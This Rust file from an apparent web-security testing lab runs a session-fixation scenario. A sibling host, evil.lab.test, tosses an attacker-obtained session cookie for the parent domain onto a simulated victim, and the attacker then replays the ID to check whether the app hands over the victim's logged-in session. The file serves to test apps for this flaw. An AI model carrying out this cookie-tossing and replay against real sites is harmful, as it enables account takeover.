//! `fixation-cookie`: a sibling host tosses a session cookie onto the victim.
//!
//! The attacker opens the login page to obtain a real, issued anonymous
//! session ID, then lures the victim to `evil.lab.test`, which answers with
//! `Set-Cookie: <name>=<id>; Domain=lab.test`: a sibling host may set cookies
//! for its parent domain. If the app keeps the ID at login, the attacker's ID
//! becomes the victim's logged-in session.

use sessionlab_browser::SetCookieOutcome;

use crate::actors::{
    judge, log_in_from, read_own_note, refused_cookie, replay_session_id, session_id, short,
};
use crate::evil_site::EvilSite;
use crate::lab::{RunContext, RunError};
use crate::outcome::{Actor, Verdict};
use crate::victim::Drive;

pub async fn run(ctx: &mut RunContext) -> Result<Verdict, RunError> {
    let mut attacker = ctx.browser(Actor::Attacker, "attacker");
    attacker.open(&ctx.login_url(), None).await?;
    let Some(issued) = session_id(ctx, &attacker) else {
        if ctx.target.app.is_some() {
            // An app that starts sessions only at login gives the attacker nothing to fix.
            let evidence = format!(
                "the app handed out no {} cookie to an anonymous visitor of {}: there is no issued pre-login ID to toss",
                ctx.target.session_cookie,
                ctx.target.login_path()
            );
            let step = ctx.step(
                Actor::Attacker,
                "opened the login page for a session ID",
                &evidence,
            );
            return Ok(Verdict::blocked(evidence, step));
        }
        let why = refused_cookie(&attacker)
            .map(|r| format!(": {r}"))
            .unwrap_or_default();
        return Err(RunError::Lab(format!(
            "the app handed out no session ID to an anonymous visitor{why}"
        )));
    };
    toss_then_replay(
        ctx,
        &issued,
        "opened the login page to get an issued session ID, and set up evil.lab.test to toss it",
        "the tossed ID",
    )
    .await
}

/// The rest of both cookie-tossing scenarios (`fixation-cookie` with an
/// issued ID, `fixation-invented` with a made-up one): evil.lab.test tosses
/// `id` for the whole of lab.test, the victim visits it, then logs in at the
/// app, and the attacker opens the proof page with `id`. `got_it` says how
/// the attacker came by it; `what` names it in the evidence.
pub(crate) async fn toss_then_replay(
    ctx: &mut RunContext,
    id: &str,
    got_it: &str,
    what: &str,
) -> Result<Verdict, RunError> {
    let cookie = ctx.target.session_cookie.clone();
    let issued = id.to_string();
    let evil = EvilSite::start()
        .await
        .map_err(|e| RunError::Lab(format!("could not start evil.lab.test: {e}")))?;
    let tossed = format!("{cookie}={issued}; Domain=lab.test; Path=/");
    evil.toss_cookie(tossed.clone());
    ctx.step(
        Actor::Attacker,
        got_it,
        format!(
            "Set-Cookie: {cookie}={}; Domain=lab.test; Path=/",
            short(&issued)
        ),
    );

    let mut victim = ctx.victim_browser("victim");
    evil.join(victim.network_mut());
    victim.open(&evil.url("/toss")).await?;
    let offered = victim
        .exchanges()
        .iter()
        .rev()
        .find(|x| x.url.path() == "/toss")
        .and_then(|x| x.set_cookie_outcomes.first().cloned());
    let refused = matches!(offered, Some(SetCookieOutcome::Rejected { .. }));
    let stored = offered
        .map(|outcome| match outcome {
            SetCookieOutcome::Stored(_) | SetCookieOutcome::Replaced(_) => {
                "her browser stored the tossed cookie for lab.test".to_string()
            }
            SetCookieOutcome::Rejected { reason, .. } => {
                format!("her browser refused the tossed cookie: {reason}")
            }
            SetCookieOutcome::Deleted { .. } => "her browser deleted a cookie instead".to_string(),
        })
        .unwrap_or_else(|| "no cookie was offered".to_string());
    let visited = ctx.step(
        Actor::Victim,
        format!("{} visited a page on evil.lab.test", ctx.victim.username),
        &stored,
    );

    let login_page = victim.open(&ctx.login_url()).await?;
    if login_page.status >= 400 {
        // An app that refuses a cookie it cannot have issued, outright.
        let evidence = format!(
            "{stored}; the app answered {} to her next visit, refusing the tossed cookie",
            login_page.status
        );
        let step = ctx.step(
            Actor::Victim,
            format!("{} opened the app's login page", ctx.victim.username),
            &evidence,
        );
        return Ok(Verdict::blocked(evidence, step));
    }
    log_in_from(&ctx.target, &mut victim, &login_page, &ctx.victim).await?;
    let note = match read_own_note(ctx, &mut victim).await {
        Ok(note) => note,
        // Her credentials worked a moment ago (the proof check): with the tossed
        // cookie in her jar, the app would not keep her signed in.
        Err(RunError::Lab(why)) if ctx.target.app.is_some() => {
            let evidence = format!(
                "{stored}; with it in her jar her sign-in did not hold ({why}): the app did not take the tossed ID as her session"
            );
            let step = ctx.step(
                Actor::Victim,
                format!("{} logged in at the app", ctx.victim.username),
                &evidence,
            );
            return Ok(Verdict::blocked(evidence, step));
        }
        Err(e) => return Err(e),
    };
    // With the tossed cookie still in her jar, a new ID from the app sits beside it
    // (same name, host-only): name them all rather than the first one found.
    let held: Vec<String> = victim.cookie_values(&cookie);
    let own: Vec<&String> = held.iter().filter(|id| **id != issued).collect();
    let observed = match (held.contains(&issued), own.first()) {
        (true, None) => "after login her session ID is still the attacker's".to_string(),
        (true, Some(new)) => format!(
            "after login her browser holds the tossed ID and a new one from the app, {}",
            short(new)
        ),
        (false, Some(new)) => format!(
            "after login her session ID is {}, not the attacker's",
            short(new)
        ),
        (false, None) => "after login her browser holds no session cookie".to_string(),
    };
    let logged_in = ctx.step(
        Actor::Victim,
        format!("{} logged in at the app", ctx.victim.username),
        &observed,
    );

    let account = ctx.proof_url();
    let probe = replay_session_id(ctx, &issued, account).await?;
    Ok(judge(
        ctx,
        &format!("opened {} with {what}", ctx.target.proof_path()),
        &probe,
        &note,
        &format!("{stored}; {observed}"),
        what,
    )
    .or_broke_at(if refused { visited } else { logged_in }))
}
